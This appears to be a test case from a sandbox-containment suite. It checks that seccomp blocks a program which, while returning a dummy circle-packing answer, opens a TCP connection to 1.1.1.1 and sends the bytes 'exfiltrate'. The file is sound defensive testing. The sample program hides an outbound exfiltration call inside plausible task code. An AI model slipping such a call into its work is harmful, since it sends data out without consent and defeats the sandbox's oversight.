"""Attack: Opens a TCP connection to the internet."""
from contain import Attack, contained

ATTACK = Attack(
    name="network_outside",
    task="circle_packing_26",
    reason=r"PermissionError",
    contained_by="seccomp: socket() fails with EACCES",
    program=r'''
import socket


def run():
    socket.create_connection(('1.1.1.1', 80), timeout=1).sendall(b'exfiltrate')
    return {'centers': [[0.5, 0.5]], 'radii': [0.1]}
''',
)


def test_network_outside(tmp_path):
    contained(ATTACK, tmp_path)
